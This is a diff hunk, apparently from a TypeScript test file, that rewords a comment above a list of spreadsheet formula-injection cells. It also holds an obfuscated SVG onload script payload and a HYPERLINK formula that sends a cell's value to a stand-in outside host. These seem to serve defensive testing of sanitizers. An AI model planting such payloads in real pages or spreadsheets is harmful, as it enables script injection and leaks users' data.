@@ -37,7 +37,7 @@ const encodings = [
   `<svg onload=r\u00adan()>`,
 ] as const;
 
-/** Cells that a spreadsheet takes for formulas. */
+/** Cells that a spreadsheet would run as formulas. */
 const formulas = [
   '=1+1',
   '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
